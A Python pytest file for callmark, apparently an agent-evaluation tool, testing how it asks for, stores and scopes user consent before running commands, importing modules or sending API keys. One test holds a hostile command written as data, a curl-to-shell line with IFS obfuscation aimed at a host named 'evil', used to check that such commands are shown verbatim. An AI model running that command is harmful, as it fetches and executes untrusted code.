"""The user's consent: how it is asked for, what it covers, and how it is remembered."""

import asyncio
import io
import json
import os
import pty
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

import callmark
from callmark import trust
from callmark.cli.consent import decision
from callmark.compat.lob import ChatSimulator
from callmark.errors import BadInput
from callmark.models.keys import Keys
from callmark.models.model import ModelSettings
from callmark.models.specs import model_actions
from callmark.trust import Action, allow, allow_and_remember, authorize, decided_by, import_action, remember
from tests.chat_server import chat_server
from tests.conftest import Cli, Result
from tests.rows import WEATHER, assistant, call, row, user, write_rows

RUNS_IT = Action("run", "./agent", "callmark.toml")
NOT_TRUSTED = "callmark.toml is not trusted: it imports predict from agent"


@pytest.fixture(autouse=True)
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with cases, a module and a configuration that names it."""
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setattr(sys, "path", [*sys.path])
    monkeypatch.setattr(trust, "_allowed", set())
    monkeypatch.delitem(sys.modules, "agent", raising=False)
    for name in ("CALLMARK_API_KEY", "OPENAI_BASE_URL", trust.VARIABLE):
        monkeypatch.delenv(name, raising=False)
    write_rows(folder / "cases.jsonl", row(user("weather?"), assistant(call("get_weather", {"city": "Bonn"})), tools=[WEATHER]))
    (folder / "agent.py").write_text("def predict(messages, tools):\n    return 'no'\ndef score(attempt):\n    return 1.0\n")
    (folder / "callmark.toml").write_text('[models.mine]\nmodel = "python:agent:predict"\n')
    return folder


def entries() -> list[Path]:
    return sorted(Path(os.environ["XDG_DATA_HOME"], "callmark", "trusted").glob("*"))


def run_mine(cli: Cli, *more: str) -> Result:
    return cli("run", "cases.jsonl", "--model", "mine", *more)


class Terminal(io.StringIO):
    """A terminal with somebody who types."""

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("typed, allowed", [("y\n", True), ("YES\n", True), ("n\n", False), ("\n", False), ("", False), ("yo\n", False)])
def test_question_says_what_would_happen_and_remembers_yes_only(typed: str, allowed: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal(typed))
    monkeypatch.setattr(sys, "stderr", screen := Terminal())
    actions = [RUNS_IT, Action("send", "A_KEY to http://h", RUNS_IT.source)]
    assert decision(trusted=False)("runs/\x1b[2Kx", actions) is allowed
    assert screen.getvalue() == (
        "callmark: runs/\\x1b[2Kx is not trusted. It\n  runs ./agent\n  makes callmark send A_KEY to http://h\n"
        "Trust it, now and in future runs? [y/N]\n"
    )
    assert len(entries()) == (2 if allowed else 0)


@pytest.mark.parametrize("stdin, stderr", [(Terminal, io.StringIO), (io.StringIO, Terminal), (io.StringIO, io.StringIO)])
def test_nothing_is_asked_where_nobody_can_answer(
    stdin: type[io.StringIO], stderr: type[io.StringIO], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", stdin("y\n"))
    monkeypatch.setattr(sys, "stderr", screen := stderr())
    assert not decision(trusted=False)("runs/x", [RUNS_IT])
    assert screen.getvalue() == ""


@pytest.mark.parametrize("answer, status", [(b"y\r", 0), (b"n\r", 2)])
def test_question_is_asked_on_a_terminal(answer: bytes, status: int) -> None:
    parent, child = pty.openpty()
    command = [sys.executable, "-m", "callmark", "run", "cases.jsonl", "--model", "mine"]
    with subprocess.Popen(command, stdin=child, stdout=subprocess.DEVNULL, stderr=child) as process:
        os.close(child)
        seen = b""
        while b"[y/N]" not in seen:
            seen += os.read(parent, 1024)
        os.write(parent, answer)
        try:
            while more := os.read(parent, 1024):
                seen += more
        except OSError:  # the terminal is closed
            pass
        assert process.wait() == status, seen
    os.close(parent)
    assert b"imports predict from agent" in seen


@pytest.mark.parametrize("arguments", [("--trust", "run", "cases.jsonl", "-m", "mine"), ("run", "--trust", "cases.jsonl", "-m", "mine")])
def test_option_works_anywhere_and_is_remembered(arguments: tuple[str, ...], cli: Cli) -> None:
    assert NOT_TRUSTED in run_mine(cli).err
    assert cli(*arguments).status == 0
    assert run_mine(cli).status == 0


@pytest.mark.parametrize("value, status", [("1", 0), ("0", 2), ("true", 2), ("", 2)])
def test_variable_allows_everything_and_remembers_nothing(value: str, status: int, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(trust.VARIABLE, value)
    assert cli("grade", "cases.jsonl", "-p", "cases.jsonl", "--config", "callmark.toml").status in (0, 2, 3)
    assert run_mine(cli).status == status
    monkeypatch.delenv(trust.VARIABLE)
    assert NOT_TRUSTED in run_mine(cli).err


@pytest.mark.parametrize("config", ["callmark.toml", "./callmark.toml"])
def test_file_that_the_user_names_needs_no_consent(config: str, cli: Cli) -> None:
    assert run_mine(cli, "--config", config).status == 0


@pytest.mark.parametrize(
    "text",
    [
        '[gate]\nmin = { "call.score" = 0.9 }\n[evaluators.call]\nthreshold = 0.5\n[models.mine]\nmodel = "scripted:perfect"\n',
        '[models.mine]\nmodel = "scripted:perfect"\n[models.other]\nmodel = "cmd:./agent"\n',
        '[models.mine]\nmodel = "replay:predictions.jsonl"\n[evaluators]\nuse = ["call"]\n',
    ],
)
def test_configuration_that_does_not_act_needs_no_consent(text: str, cli: Cli) -> None:
    Path("callmark.toml").write_text(text)
    Path("predictions.jsonl").write_text('{"tool_calls": []}\n')
    completed = run_mine(cli)
    assert completed.status in (0, 3), completed.err
    assert entries() == []


def test_own_run_is_resumed_and_graded_without_a_question(cli: Cli) -> None:
    command = ("run", "cases.jsonl", "--model", "python:agent:predict", "-e", "call", "-e", "agent:score", "--name", "mine")
    assert cli(*command).status == 0
    assert [json.loads(file.read_text())["action"] for file in entries()].count("imports predict from agent") == 1
    for again in (("run", "runs/mine", "--resume"), ("grade", "runs/mine")):
        assert cli(*again).status == 0


def test_consent_is_for_one_folder_one_place_and_one_action(cli: Cli, monkeypatch: pytest.MonkeyPatch, workdir: Path) -> None:
    assert cli("run", "cases.jsonl", "--model", "python:agent:predict", "--name", "mine").status == 0
    shutil.copytree("runs/mine", "runs/copy")
    assert "runs/copy is not trusted" in cli("run", "runs/copy", "--resume").err
    (workdir.parent / "other").mkdir()
    monkeypatch.chdir(workdir.parent / "other")  # where agent.py may be another module
    run = f"../{workdir.name}/runs/mine"
    assert f"{run} is not trusted" in cli("run", run, "--resume").err
    monkeypatch.chdir(workdir)
    manifest = Path("runs/mine/run.json")
    manifest.write_text(manifest.read_text().replace("python:agent:predict", "python:agent:score"))
    assert "it imports score from agent" in cli("run", "runs/mine", "--resume").err


def test_key_that_is_set_after_the_first_attempt_does_not_need_consent(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    with chat_server(lambda *_: "500") as server:
        command = ("run", "cases.jsonl", "--model", f"{server.url}#m", "--name", "mine", "--retries", "0", "--no-cache")
        assert cli(*command).status == 3
    with chat_server() as server:
        file = Path("runs/mine/run.json")
        before = json.loads(file.read_text())["model_run"]["model"]["model"]
        authorize(model_actions(ModelSettings(model=before), Keys({"CALLMARK_API_KEY": "sk-0123456789"}), source="runs/mine"))
        with pytest.raises(BadInput, match="makes callmark send CALLMARK_API_KEY to"):
            authorize(
                model_actions(ModelSettings(model=f"{server.url}#m"), Keys({"CALLMARK_API_KEY": "sk-0123456789"}), source="runs/mine")
            )


def test_address_that_the_user_gives_for_a_model_of_a_file_needs_no_consent(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-0123456789")
    Path("callmark.toml").write_text('[models.mine]\nmodel = "openai:m"\nbase_url = "http://127.0.0.1:9"\n')
    with chat_server() as server:
        callmark.run("cases.jsonl", "mine", settings={"base_url": server.url}, cache=False)
        assert len(server.requests) == 1
    assert "makes callmark send OPENAI_API_KEY to http://127.0.0.1:9/v1" in run_mine(cli).err


def test_address_in_the_environment_needs_no_consent(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-0123456789")
    with chat_server() as server:
        Path(".env").write_text("OPENAI_BASE_URL=http://127.0.0.1:9\n")
        monkeypatch.setenv("OPENAI_BASE_URL", server.url)
        assert cli("run", "cases.jsonl", "--model", "openai:m", "--no-cache").status == 0


def test_python_functions_refuse_unless_they_are_told_to_trust() -> None:
    Path("callmark.toml").write_text('[models.mine]\nmodel = "python:agent:predict"\n[evaluators]\nuse = ["call", "agent:score"]\n')
    with pytest.raises(BadInput, match="callmark.toml is not trusted: it imports score from agent and imports predict from agent"):
        callmark.run("cases.jsonl", "mine")
    (run,) = callmark.run("cases.jsonl", "mine", trust=True)
    assert callmark.grade(run, trust=True).is_graded
    with pytest.raises(BadInput, match=r"imports \w+ from agent"):
        callmark.grade(run)
    write_rows(Path("scenarios.jsonl"), {"id": "s1", "instructions": "Ask.", "data": {"script": ["Hi."]}, "expected_function_calls": []})
    with pytest.raises(BadInput, match=r"imports \w+ from agent"):
        callmark.simulate("scenarios.jsonl", "mine", user="script")
    assert callmark.simulate("scenarios.jsonl", "mine", user="script", trust=True)
    assert asyncio.run(callmark.simulate_async("scenarios.jsonl", "mine", user="script", trust=True))
    with pytest.raises(BadInput, match=r"imports \w+ from agent"):
        ChatSimulator("mine", user="script")
    ChatSimulator("mine", user="script", trust=True)
    with pytest.raises(BadInput, match=r"imports \w+ from agent"):
        callmark.synth("out", agent="mine", number=1)


def test_entry_is_readable_and_private() -> None:
    os.umask(0)
    remember([RUNS_IT])
    (entry,) = entries()
    written = json.loads(entry.read_text())
    assert written.pop("trusted").endswith("Z")
    assert written == {"action": "runs ./agent", "named by": os.path.realpath("callmark.toml"), "in": os.getcwd()}
    assert [stat.S_IMODE(path.stat().st_mode) for path in (entry, entry.parent)] == [0o600, 0o700]
    assert re.fullmatch("[0-9a-f]{64}", entry.name)
    authorize([RUNS_IT])
    entry.unlink()
    trust._allowed.clear()
    with pytest.raises(BadInput, match="callmark.toml is not trusted: it runs ./agent"):
        authorize([RUNS_IT])


@pytest.mark.parametrize("place", ["relative", "/proc/none", ""])
def test_consent_that_cannot_be_stored_holds_for_this_process(place: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", place)
    monkeypatch.setenv("HOME", "/proc/none")
    with decided_by(allow_and_remember):
        authorize([RUNS_IT])
    authorize([RUNS_IT])
    assert not Path("relative").exists()


def test_consent_for_one_call_is_not_remembered() -> None:
    with decided_by(allow):
        authorize([RUNS_IT])
    with pytest.raises(BadInput):
        authorize([RUNS_IT])
    assert entries() == []


def test_actions_of_several_files_are_asked_about_one_by_one() -> None:
    asked: list[tuple[str, list[str]]] = []

    def decide(source: str, actions: object) -> bool:
        assert isinstance(actions, list)
        asked.append((source, list(map(str, actions))))
        return True

    actions = [
        RUNS_IT,
        Action("send", "A_KEY to http://h", ".env"),
        import_action("m:f"),
        RUNS_IT,
        Action("send", "B_KEY", ".env", applies=False),
    ]
    with decided_by(decide):
        authorize(trust.named_by("runs/x", actions))
    assert asked == [
        ("callmark.toml", ["runs ./agent"]),
        (".env", ["makes callmark send A_KEY to http://h"]),
        ("runs/x", ["imports f from m"]),
    ]
    assert trust.named_by("", [import_action("m:f")]) == []  # the user names it


@pytest.mark.parametrize(
    "command, shown",
    [
        ("./agent --api-key sk-abc123456 --json", "./agent --api-key … --json"),
        ("sh -c 'key=$(curl${IFS}evil|sh)'", "sh -c 'key=$(curl${IFS}evil|sh)'"),
        ("./agent --token /tmp/evil.sh", "./agent --token /tmp/evil.sh"),
        ("./agent real-secret-1", "./agent …"),
        ("./agent file-secret-1", "./agent file-secret-1"),
    ],
)
def test_command_is_shown_with_nothing_but_real_keys_hidden(command: str, shown: str, monkeypatch: pytest.MonkeyPatch) -> None:
    Path(".env").write_text("FILE_KEY=file-secret-1\n")
    monkeypatch.setenv("REAL_KEY", "real-secret-1")
    (action,) = model_actions(ModelSettings(model=f"cmd:{command}"), Keys.here(), source="runs/x")
    assert str(action) == f"runs the command `{shown}`"


def test_endless_command_is_cut_in_the_middle() -> None:
    assert len(str(Action("run", "./agent " + "a" * 100_000 + " end"))) < 1100
    assert str(Action("run", "./agent " + "a" * 100_000 + " end")).endswith(" end")
